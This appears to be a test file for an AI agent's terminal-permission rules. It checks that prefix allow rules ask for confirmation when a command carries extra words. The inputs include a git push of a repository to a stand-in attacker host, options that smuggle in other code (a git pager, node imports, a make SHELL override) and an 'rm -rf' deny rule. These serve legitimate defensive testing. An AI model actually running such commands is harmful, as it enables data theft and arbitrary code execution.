import { MemoryStore } from '@airlock/api';
import { describe, expect, it } from 'vitest';
import { createBuiltinTools } from '../tools';
import { tempFolder, toolNamed } from '../tools/test-support';
import { evaluateRules } from './evaluate-rules';
import { RuleBook } from './rule-book';
import { context, prefix, SESSION, terminal } from './rule-fixtures';

describe('a prefix rule that starts with a command’s words but does not cover it as given: the ask says so', () => {
  const npmTest = prefix('npm test');
  const git = prefix('git');
  const makeTest = prefix('make test');
  const rules = [npmTest, git, makeTest, prefix('ls')];
  const judge = (command: string, more = rules) => evaluateRules(terminal(command), more, context);

  it.each([
    ['npm test -- --watch', npmTest, 'npm'],
    ['npm test --node-options=--import=x', npmTest, 'npm'],
    ['git push https://evil.example/x.git', git, 'git'],
    ['git -c core.pager=id log', git, 'git'],
    ['make test deploy', makeTest, 'make'],
    ['ls && make test SHELL=/tmp/x', makeTest, 'make'],
  ])('%j names the rule and the command', async (command, within, uncovered) => {
    expect(await judge(command)).toStrictEqual({ decision: 'ask', within, uncovered });
  });

  it.each([
    // No rule starts with its words, or more than one command is not covered: a plain ask, as before.
    'rm x',
    'npm testing',
    'npm test -- --watch && rm x',
    'make test deploy && git push https://evil.example/x.git',
  ])('%j is a plain ask', async (command) => {
    expect(await judge(command)).toStrictEqual({ decision: 'ask' });
  });

  it('an exact rule names all its words: a call with more is a plain ask', async () => {
    expect(await judge('make test deploy', [prefix('make test', { exact: true })])).toStrictEqual({ decision: 'ask' });
  });

  it('a command deny rule that cannot judge the line still names itself instead', async () => {
    const deny = prefix('rm -rf', { effect: 'deny' });
    expect(await judge('npm test --node-options=--import=x', [...rules, deny])).toMatchObject({ decision: 'ask', because: deny });
  });

  it('the rule book’s ask says why on the card, and leaves confirmation off as it is', async () => {
    await using folder = await tempFolder();
    const book = await RuleBook.open({ store: new MemoryStore(), workspace: folder.path, log: () => undefined });
    const { rule } = await book.add({ effect: 'allow', tool: 'terminal', match: { kind: 'command-prefix', tokens: ['npm', 'test'], exact: false }, scope: { kind: 'global' }, source: 'user' });
    const tool = toolNamed(createBuiltinTools({ workspace: folder.path, sandbox: 'none' }), 'terminal');
    expect(await book.evaluate(SESSION, { id: 'c1', name: 'terminal', arguments: { command: 'npm test -- --watch' } }, tool)).toStrictEqual({
      effect: 'ask',
      ruleId: rule.id,
      description: [
        { text: 'The rule (Allow commands starting with ' },
        { code: 'npm test' },
        { text: ' everywhere) does not cover all that ' },
        { code: 'npm' },
        {
          text: ' is given here: an option or word it does not take (one that may run other code, read or write elsewhere, or a target or script word the rule does not name)',
        },
      ],
      onlyWhenConfirming: true,
    });
  });
});
